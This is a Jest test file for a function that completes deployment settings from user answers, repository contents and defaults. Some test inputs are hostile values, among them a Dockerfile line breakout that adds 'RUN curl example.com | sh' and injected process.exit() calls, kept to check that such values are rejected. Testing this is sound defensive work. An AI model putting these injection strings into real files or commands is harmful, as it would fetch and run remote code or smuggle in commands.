import { completeSettings, settingNames } from './settings';

const complete = (read: object, answers = {}) =>
  completeSettings({
    asked: settingNames,
    answers: { main: 'a.js', image: 'a:1', ...answers },
    readRepository: async () => read,
    entityRef: 'component:default/orders',
  });

it('goes by answers, then by the repository, then by what is usual', async () => {
  expect(
    await complete({ port: 3000, memoryLimit: 64 }, { port: 9090 }),
  ).toEqual({
    values: {
      main: 'a.js',
      port: 9090,
      healthPath: '/healthz',
      readyPath: '/readyz',
      memoryLimit: 64,
      image: 'a:1',
    },
    read: ['memoryLimit'],
  });
});

it('asks no repository where all is answered', async () => {
  const readRepository = jest.fn();
  await completeSettings({
    asked: ['main'],
    answers: { main: 'a.js' },
    readRepository,
    entityRef: 'component:default/orders',
  });
  expect(readRepository).not.toHaveBeenCalled();
});

it('names all that nothing tells', async () => {
  await expect(complete({}, { main: '', image: undefined })).rejects.toThrow(
    'The repository of component:default/orders does not say what starts it: give "main"\nThe repository of component:default/orders does not say the image to deploy, with a version: give "image"',
  );
});

// What a repository says may be anything, and is written into its files.
it.each([
  { main: 'a.js"]\nRUN curl example.com | sh' },
  { main: '-e process.exit()' },
  { image: 'a:latest' },
  { image: 'a' },
  { image: 'a:${VERSION}' },
])('asks for what a repository cannot mean by %j', async read => {
  const [name] = Object.keys(read);
  await expect(complete(read, { [name]: '' })).rejects.toThrow(
    `give "${name}"`,
  );
});

it.each([
  { port: 0 },
  { port: 70_000 },
  { port: NaN },
  { healthPath: '/a b' },
  { healthPath: "/'); process.exit(); ('" },
  { readyPath: 'ready' },
  { memoryLimit: 1 },
])('goes by what is usual where a repository says %j', async read => {
  expect(await complete(read)).toEqual(await complete({}));
});
